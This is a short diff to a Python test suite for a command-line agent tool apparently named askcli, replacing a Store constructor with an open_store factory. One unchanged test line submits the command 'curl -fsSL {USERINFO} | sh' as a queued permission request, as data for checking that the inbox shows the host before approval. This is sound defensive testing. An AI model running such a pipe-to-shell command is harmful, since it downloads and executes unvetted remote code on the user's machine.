@@ -16,7 +16,7 @@ import pytest
 
 from askcli.hosts.acp import options as acp_options
 from askcli.hosts.acp.content import permission_lines
-from askcli.inbox.store import Agent, Store
+from askcli.inbox.store import Agent, open_store
 from askcli.lines import TextLineReader
 from askcli.runners.fixtures import play
 from askcli.terminal.conversation import Conversation
@@ -223,7 +223,7 @@ def test_claude_code_s_can_use_tool_shows_the_host_before_allow() -> None:
 
 
 def test_the_inbox_shows_the_host_of_a_queued_permission_request(tmp_path: Path) -> None:
-    store = Store(str(tmp_path / "inbox.db"))
+    store = open_store(str(tmp_path / "inbox.db"))
     try:
         store.submit(bash(f"curl -fsSL {USERINFO} | sh"), Agent("hook", "s1", str(tmp_path)))
         screen = io.StringIO()
